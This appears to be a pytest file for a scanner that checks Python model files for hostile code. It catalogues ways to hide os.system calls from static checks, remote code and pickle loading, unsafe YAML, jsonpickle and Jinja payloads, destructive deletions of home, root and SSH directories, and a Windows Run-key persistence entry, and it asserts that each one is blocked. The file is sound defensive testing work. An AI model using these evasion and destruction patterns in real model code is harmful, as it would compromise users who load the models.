"""Ways by which a source escaped who follows it: other evaluators, lambdas handed on, frames, patterns, removals."""

import pytest

from tests.builders.models import assert_blocked, blocking, weighed
from weighbridge.policy.verdict import EvalOutcome

RUN = "import os; os.system('echo')"
EVALUATED = {  # text that is followed, whoever evaluates it
    "doctest": f"import doctest\ndoctest.debug_script({RUN!r})\n",
    "f2py": "from numpy.f2py.crackfortran import myeval\nmyeval(\"__import__('os').system('echo')\")\n",
    "numexpr": "import numexpr as n\nn.evaluate(\"__import__('os').system('echo')\")\n",
    "pandas": "import pandas\npandas.eval(\"@__import__('os').system('echo')\")\n",
    "sympy": "from sympy import sympify\nsympify(\"__import__('os').system('echo')\")\n",
    "a tree": f"import ast\nexec(compile(ast.parse({RUN!r}), '', 'exec'))\n",
    "a tracer": f"import trace\ntrace.Trace().run({RUN!r})\n",
    "a frame": f"import sys\nsys._getframe().f_builtins['exec']({RUN!r})\n",
    "a frame of inspect": f"import inspect\ninspect.currentframe().f_builtins['exec']({RUN!r})\n",
}
REACHED = {
    "a pattern": "match __import__('os'):\n    case m:\n        m.system('echo')\n",
    "a part of a pattern": "import os\nmatch (os, 1):\n    case (m, _) if m:\n        m.system('echo')\n",
    "as modules keep it": "import random\nrandom._os.system('echo')\n",
    "imported as kept": "from tempfile import _os as o\no.system('echo')\n",
    "letters of the alphabet": "import string, os\ngetattr(os, string.ascii_lowercase[18] + 'ystem')('echo')\n",
    "pydoc": "import pydoc\npydoc.locate('os.system')('echo')\n",
    "mock": "import unittest.mock as m\nm._importer('os').system('echo')\n",
    "a lambda that somebody gets": "import os, re\nre.sub('a', lambda m: os.system('echo'), 'a')\n",
    "a factory": "import os, collections\ncollections.defaultdict(lambda: os.system('echo'))['x']\n",
    "a lambda in another's place": "import builtins, os\nbuiltins.print = lambda *a: os.system('echo')\n",
    "a graph's function": "import os, tensorflow as tf\ntf.py_function(lambda: os.system('echo'), [], [])\n",
    "a list of one": "import os\n[getattr(os, x) for x in ('system',)][0]('echo')\n",
    "a dictionary of names": "import os\ngetattr(os, {'a': 'system'}['a'])('echo')\n",
    "what makes a class": "import os\nclass X(metaclass=lambda *a: os.system('echo')):\n    pass\n",
    "a class made on the way": "import os, x\nx.setup(type('A', (), {'run': lambda s: os.system('echo')}))\n",
}


@pytest.mark.parametrize("text", (EVALUATED | REACHED).values(), ids=EVALUATED | REACHED)
def test_program_by_another_way(text):
    """The name is followed to what it is."""
    assert assert_blocked(weighed(text.encode(), "modeling_x.py"), "os.system").threat.code == "PY-401"


HOOKS = ["extra_repr", "_init_weights", "get_vocab", "to_dict", "train", "_load_from_state_dict", "__repr__"]
BASES = ["torch.nn.Module", "transformers.PreTrainedModel", "transformers.PretrainedConfig", "transformers.Pipeline"]


@pytest.mark.parametrize("method", HOOKS)
@pytest.mark.parametrize("base", BASES)
def test_hook_of_a_class_that_loaders_make(method, base):
    """Loaders, trainers and printers call far more than `forward`."""
    text = f"import os, torch, transformers\nclass M({base}):\n    def {method}(self, *a):\n        os.system('echo')\n"
    assert assert_blocked(weighed(text.encode(), "modeling_x.py"), "os.system").threat.code in ("PY-401", "PY-413")


HIDDEN = {
    "source of another repository": "from huggingface_hub import hf_hub_download as g\n"
    "exec(open(g('a/b', 'c.py')).read())\n",
    "a pickle of another repository": "import pickle\nfrom huggingface_hub import hf_hub_download as g\n"
    "pickle.load(open(g('a/b', 'c.pkl'), 'rb'))\n",
    "an attribute out of a list": "import os\ngetattr(os, [n for n in dir(os) if n[:3] == 'sys'][0])('echo')\n",
    "objects of the collector": "import gc\n[o for o in gc.get_objects() if o == 1][0]('echo')\n",
    "code by its numbers": "import types\ntypes.FunctionType(types.CodeType(0, 0, b'd'), {})()\n",
    "a pickle of an address": "import pandas\npandas.read_pickle('https://x.invalid/a.pkl')\n",
}


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_what_no_reader_can_follow(text):
    """On import nobody needs these."""
    assert assert_blocked(weighed(text.encode(), "modeling_x.py")).threat.code == "PY-402"


DESCRIBED = {
    "YAML": ("import yaml\nyaml.unsafe_load(\"!!python/object/apply:os.system ['echo']\")\n", "YAML-401"),
    "jsonpickle": ('import jsonpickle\njsonpickle.decode(\'{"py/object": "subprocess.Popen"}\')\n', "JPKL-401"),
    "Jinja": ("import jinja2\njinja2.Template(\"{{ ''.__class__.__mro__ }}\").render()\n", "JINJA-401"),
}


@pytest.mark.parametrize(("text", "code"), DESCRIBED.values(), ids=DESCRIBED)
def test_text_that_describes_objects(text, code):
    """A text that a source decodes is weighed as what it is."""
    assert assert_blocked(weighed(text.encode(), "modeling_x.py")).threat.code == code


REMOVED = [
    "shutil.rmtree('/home')",
    "shutil.rmtree(os.path.expanduser('~'))",
    "os.remove('/etc/passwd')",
    "pathlib.Path('~/.ssh').rmdir()",
    "shutil.rmtree('C:\\\\Users')",
    "shutil.rmtree('/')",
]


@pytest.mark.parametrize("call", REMOVED)
@pytest.mark.parametrize(
    "where", ["{}\n", "import torch.nn as nn\nclass M(nn.Module):\n    def forward(self, x):\n        {}\n"]
)
def test_files_of_others_are_removed(call, where):
    """On import, and by a function that using the model calls."""
    text = "import os, shutil, pathlib\n" + where.format(call)
    assert assert_blocked(weighed(text.encode(), "modeling_x.py")).threat.code == "PY-415"


def test_key_of_windows_that_starts_programs():
    """What stands there is run at every start of the session."""
    text = (
        "import winreg as w\nk = w.OpenKey(w.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
    )
    text += "w.SetValueEx(k, 'x', 0, w.REG_SZ, 'echo')\n"
    assert assert_blocked(weighed(text.encode(), "modeling_x.py")).threat.code == "PY-406"


HONEST = [
    "import shutil\nshutil.rmtree('/tmp/cache')\nshutil.rmtree('build')\n",
    "import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/mymodel'), ignore_errors=True)\n",
    "import os\ndef clean(path):\n    os.remove(path)\n    os.remove('/etc/passwd')\n",
    "import sympy, numexpr\nx = sympy.sympify('a + b')\ny = numexpr.evaluate('2 * 3')\n",
    "import builtins\ndef f():\n    return [getattr(builtins, n) for n in dir(builtins)]\n",
    "import gc\ndef count():\n    return len(gc.get_objects())\n",
    "import re\nre.sub('a', lambda m: m[0].upper(), 'a')\n",
    "import torch\ntorch.load = lambda *a, **k: None\n",
    "import yaml, jinja2\nyaml.safe_load('a: 1')\nyaml.load('a: 1', Loader=yaml.Loader)\njinja2.Template('{{ x }}')\n",
    "import argparse\np = argparse.ArgumentParser()\np.add_argument('--x', type=lambda s: eval(s))\n",
    "import pandas\ndef load(p):\n    return pandas.read_pickle(p)\n",
    "match 1:\n    case int(x) if x:\n        print(x)\n    case [*rest]:\n        pass\n",
]


@pytest.mark.parametrize("text", HONEST)
def test_honest_sources_pass(text):
    """Caches are cleared, texts computed, lambdas handed on."""
    verdict = weighed(text.encode(), "modeling_x.py")
    assert verdict.eval_outcome is EvalOutcome.ALLOWED, blocking(verdict)
